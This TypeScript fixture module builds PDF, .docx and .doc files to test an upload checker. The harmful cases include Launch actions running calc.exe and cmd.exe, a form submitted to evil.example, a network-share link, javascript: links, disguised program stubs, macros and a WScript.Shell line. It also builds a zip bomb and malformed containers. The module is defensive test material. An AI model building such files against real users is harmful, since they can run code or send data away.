import CFB from 'cfb';
import { unzipSync as unzipAll, zipSync, type Zippable } from 'fflate';
import { PDFDocument, PDFHexString, PDFName, PDFString, type PDFDict } from '@cantoo/pdf-lib';

/**
 * Real documents for the upload tests, made in code: PDFs with each kind of action, Word packages
 * (.docx) and compound files (.doc), harmless and not. Shared by the unit tests of the checks and
 * the probe's upload corpus.
 */

/** A one-page PDF; `change` adds what the test is about. Object streams compress the dictionaries. */
export async function makePdf(change?: (doc: PDFDocument) => void) {
  const doc = await PDFDocument.create();
  doc.addPage([200, 200]).drawText('Jordan Hale, CV', { x: 20, y: 100, size: 12 });
  change?.(doc);
  return Buffer.from(await doc.save({ useObjectStreams: true }));
}

/** A PDF whose first page has a link annotation running `action` when clicked. */
export const pdfWithLink = (action: Record<string, unknown>) =>
  makePdf((doc) => {
    const { context } = doc;
    const annot = context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 100, 20], A: action as never });
    doc.getPage(0).node.set(PDFName.of('Annots'), context.obj([context.register(annot)]));
  });

/** A PDF that runs `action` when opened (the catalog's OpenAction). */
export const pdfOpening = (action: (doc: PDFDocument) => PDFDict) =>
  makePdf((doc) => doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(action(doc))));

/** The PDF cases: each harmful one with why, and the harmless ones a CV may well carry. */
export async function pdfCases() {
  const uri = (link: string) => ({ S: 'URI', URI: PDFString.of(link) });
  return {
    harmless: {
      'a link to a web page': await pdfWithLink(uri('https://example.com/portfolio')),
      'an e-mail link': await pdfWithLink(uri('mailto:jordan@example.com')),
      'a link to a page of the document': await makePdf((doc) => {
        const page = doc.getPage(0).ref;
        const annot = doc.context.obj({
          Type: 'Annot',
          Subtype: 'Link',
          Rect: [0, 0, 100, 20],
          A: { S: 'GoTo', D: [page, 'Fit'] },
        });
        doc.getPage(0).node.set(PDFName.of('Annots'), doc.context.obj([doc.context.register(annot)]));
      }),
    },
    harmful: {
      'a launch action whose type is an indirect object (/S 5 0 R)': await pdfOpening((doc) =>
        doc.context.obj({ S: doc.context.register(PDFName.of('Launch')), F: PDFString.of('calc.exe') }),
      ),
      'a form sent away, its type an indirect object': await pdfOpening((doc) =>
        doc.context.obj({
          S: doc.context.register(PDFName.of('SubmitForm')),
          F: PDFString.of('https://evil.example/collect'),
        }),
      ),
      'a javascript: link': await pdfWithLink(uri('javascript:app.alert(1)')),
      'a javascript: link in a hex string': await pdfWithLink({
        S: 'URI',
        URI: PDFHexString.fromText('JavaScript:app.alert(1)'),
      }),
      'a file: link': await pdfWithLink(uri('file:///C:/Windows/System32/calc.exe')),
      'a link to a PDF on a network share (GoToR)': await pdfWithLink({
        S: 'GoToR',
        F: PDFString.of('\\\\evil.example\\share\\x.pdf'),
        D: [0, 'Fit'],
      }),
      'a link into an embedded document (GoToE)': await pdfWithLink({ S: 'GoToE', D: [0, 'Fit'] }),
      'an import of form data': await pdfWithLink({ S: 'ImportData', F: PDFString.of('data.fdf') }),
      'a hide action': await pdfWithLink({ S: 'Hide', T: PDFString.of('field') }),
      'a rendition': await pdfWithLink({ S: 'Rendition', OP: 0 }),
      'a named viewer command': await pdfWithLink({ S: 'Named', N: 'Print' }),
      'an action type nobody knows': await pdfOpening((doc) => doc.context.obj({ S: 'Frobnicate' })),
      'a launch action as the next of a harmless link': await pdfWithLink({
        ...uri('https://example.com'),
        Next: { S: 'Launch', F: PDFString.of('cmd.exe') },
      }),
      'a page open action (AA) running a launch': await makePdf((doc) => {
        const launch = doc.context.register(doc.context.obj({ S: 'Launch', F: PDFString.of('calc.exe') }));
        doc.getPage(0).node.set(PDFName.of('AA'), doc.context.obj({ O: launch }));
      }),
      'document JavaScript (Names tree)': await makePdf((doc) => doc.addJavaScript('hello', 'app.alert(1)')),
      'an embedded file (Names tree)': await makePdf((doc) => {
        void doc.attach(Buffer.from('MZ program'), 'setup.exe', { mimeType: 'application/octet-stream' });
      }),
    },
  };
}

// ---------- Word ----------

const CONTENT_TYPES = (main: string, extra = '') =>
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
  '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
  '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
  '<Default Extension="xml" ContentType="application/xml"/>' +
  `<Override PartName="/word/document.xml" ContentType="${main}"/>${extra}</Types>`;
const RELS =
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
  '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
  '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>' +
  '</Relationships>';
const DOCUMENT_XML =
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
  '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">' +
  '<w:body><w:p><w:r><w:t>Business plan</w:t></w:r></w:p></w:body></w:document>';
export const WORD_MAIN = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const PROGRAM = Buffer.from('MZ\x90\x00\x03\x00\x00\x00This program cannot be run in DOS mode', 'latin1');
const utf8 = (s: string) => new Uint8Array(Buffer.from(s));

/** A .docx package: the three parts a Word document needs, plus `more`. */
export function makeDocx(more: Zippable = {}, main = WORD_MAIN, extraTypes = '') {
  return Buffer.from(
    zipSync({
      '[Content_Types].xml': utf8(CONTENT_TYPES(main, extraTypes)),
      '_rels/.rels': utf8(RELS),
      'word/document.xml': utf8(DOCUMENT_XML),
      ...more,
    }),
  );
}

/** A .doc compound file with a WordDocument stream and `more` streams (paths make storages). */
export function makeDoc(more: Record<string, Uint8Array> = {}, word = true) {
  const cfb = CFB.utils.cfb_new();
  if (word) CFB.utils.cfb_add(cfb, 'WordDocument', Buffer.alloc(4096, 0x20));
  CFB.utils.cfb_add(cfb, '\u0001CompObj', Buffer.from('Microsoft Word 97-2003 Document'));
  for (const [name, data] of Object.entries(more)) CFB.utils.cfb_add(cfb, name, Buffer.from(data));
  return Buffer.from(CFB.write(cfb, { type: 'buffer' }) as Uint8Array);
}

/**
 * A .doc whose allocation table sends its WordDocument stream's chain back on itself, the stream's
 * directory entry starting inside the loop (where `cfb` alone would follow it for ever).
 */
export function loopingDoc() {
  const doc = makeDoc();
  const ssz = 512;
  const fatSector = doc.readInt32LE(0x4c);
  // The WordDocument stream (4096 bytes: 8 sectors) starts at some sector s; make its last point back to s.
  const fat = (fatSector + 1) * ssz;
  for (let s = 0; s < ssz / 4; s++) {
    const next = doc.readInt32LE(fat + s * 4);
    if (next === -2 && s > 0 && doc.readInt32LE(fat + (s - 1) * 4) === s) {
      let first = s;
      while (first > 0 && doc.readInt32LE(fat + (first - 1) * 4) === first) first -= 1;
      doc.writeInt32LE(first, fat + s * 4);
      const dir = (doc.readInt32LE(0x30) + 1) * ssz;
      for (let e = dir; e < dir + ssz; e += 128)
        if (doc.toString('utf16le', e, e + 24) === 'WordDocument') doc.writeInt32LE(first + 1, e + 116);
      return doc;
    }
  }
  throw new Error('no chain to loop');
}

/** A zip whose part `name` appears twice: the first copy renamed in place (same length) to `name`. */
function twice(zip: Buffer, name: string) {
  const decoy = name.replace(/a\.bin$/, 'b.bin');
  // The program comes first: a reader that keeps the last copy of a name sees only the harmless one.
  const withDecoy = Buffer.from(zipSync({ [decoy]: PROGRAM, ...unzipAll(zip) }));
  // Rename every occurrence of the decoy's name (local header and central directory) to `name`.
  let at = withDecoy.indexOf(decoy);
  while (at >= 0) {
    withDecoy.write(name, at, 'latin1');
    at = withDecoy.indexOf(decoy, at + 1);
  }
  return withDecoy;
}

/** The document cases of the article editor's file field: each harmful one with why. */
export function officeCases() {
  const bomb = new Uint8Array(101_000_000);
  const many: Zippable = {};
  for (let i = 0; i < 2100; i++) many[`word/media/p${i}.xml`] = utf8('<x/>');
  return {
    harmless: {
      'a Word document (.docx)': makeDocx(),
      'a Word 97–2003 document (.doc)': makeDoc(),
    },
    harmful: {
      'a zip naming [Content_Types].xml and word/ that carries a program': Buffer.from(
        zipSync({
          '[Content_Types].xml': utf8('<Types/>'),
          'word/': new Uint8Array(0),
          'setup.exe': PROGRAM,
        }),
      ),
      'a Word document with a program inside': makeDocx({ 'word/media/setup.exe': PROGRAM }),
      'a Word document with a program named as an image': makeDocx({ 'word/media/image1.png': PROGRAM }),
      'a Word document with a script inside': makeDocx({
        'word/run.vbs': utf8('CreateObject("WScript.Shell")'),
      }),
      'a Word document with macros (.docm)': makeDocx(
        { 'word/vbaProject.bin': makeDoc({}, false) },
        'application/vnd.ms-word.document.macroEnabled.main+xml',
      ),
      'a Word document with a macro project but the plain type': makeDocx({
        'word/vbaProject.bin': makeDoc({}, false),
      }),
      'a Word document with an embedded OLE package': makeDocx({
        'word/embeddings/oleObject1.bin': makeDoc({ '\u0001Ole10Native': PROGRAM }, false),
      }),
      'a spreadsheet named .docx': makeDocx(
        {},
        'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml',
      ),
      'a zip bomb (101 MB of zeros)': makeDocx({ 'word/media/zeros.bin': [bomb, { level: 1 }] }),
      'a zip of 2100 parts': makeDocx(many),
      'a zip naming one part twice': twice(
        makeDocx({ 'word/media/a.bin': utf8('fine') }),
        'word/media/a.bin',
      ),
      'OLE magic bytes and nothing else': Buffer.concat([
        Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
        Buffer.from('<html><script>alert(1)</script></html>'),
      ]),
      'a compound file without a WordDocument stream (a workbook)': makeDoc(
        { Workbook: PROGRAM.subarray(2) },
        false,
      ),
      'a .doc with macros': makeDoc({ 'Macros/VBA/dir': new Uint8Array(16) }),
      'a .doc with a program inside': makeDoc({ 'ObjectPool/_1/Contents': PROGRAM }),
      'a .doc whose sector chain loops': loopingDoc(),
    },
  };
}
